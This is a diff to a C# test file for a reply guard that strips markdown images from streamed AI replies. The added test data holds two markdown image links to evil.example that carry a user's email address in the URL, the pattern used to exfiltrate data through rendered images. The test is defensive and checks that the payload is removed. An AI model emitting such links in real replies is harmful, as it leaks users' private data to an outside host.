@@ -119,6 +119,25 @@ public sealed class ReplyGuardTests
         string.Concat(shown).Should().Be("Markets rallied. (image removed: logo) Bye.\nMore <img src=\"\">\n[1]: #image-removed");
     }
 
+    [Theory]
+    [InlineData("x ![a](\thttps://evil.example/p?d=alice.w@corp.example&f=g()\n \"title\") y")]
+    [InlineData("x ![a]( https://evil.example/p?d=alice.w@corp.example&f=g()\n \"title\") y")]
+    public async Task StreamedImageWithBlanksBeforeItsUrl_IsHeldWhole(string reply)
+    {
+        // Blanks before the URL do not end it: a ')' in the URL is the URL's, and the title on the next line closes the image.
+        var (guard, session, _) = await AfterProfileAndPage();
+        var stream = guard.Stream(session);
+        var shown = new System.Text.StringBuilder();
+        for (var at = 0; at < reply.Length; at += 5)
+        {
+            shown.Append(await stream.PushAsync(reply.Substring(at, Math.Min(5, reply.Length - at))));
+        }
+
+        shown.Append(await stream.CompleteAsync());
+
+        shown.ToString().Should().Be("x (image removed: a) y");
+    }
+
     [Fact]
     public async Task StreamedTextWithoutImages_PassesAsItComes()
     {
